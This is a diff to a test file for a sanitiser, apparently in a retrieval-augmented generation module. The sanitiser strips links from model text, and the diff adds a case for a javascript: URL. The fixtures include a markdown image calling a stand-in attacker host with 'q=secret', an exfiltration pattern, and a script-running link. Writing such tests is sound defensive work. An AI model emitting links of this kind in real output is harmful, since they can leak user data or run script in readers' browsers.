@@ -16,6 +16,7 @@ from rag.plain import plain_text
         ("So it is [1](https://evil.example).", "So it is [1]."),
         ("![pixel](https://evil.example/p.png?q=secret)It is.", "pixelIt is."),
         ("![pixel][p] It is.\n[p]: https://evil.example/p.png", "pixel It is.\n"),
+        ("So [click](javascript:alert(1)) it is.", "So click it is."),
         ("Go to https://evil.example/a?b=c now.", "Go to  now."),
         ("Go to www.evil.example now.", "Go to  now."),
         ("<a href='https://evil.example'>Here</a> it is.", "Here it is."),
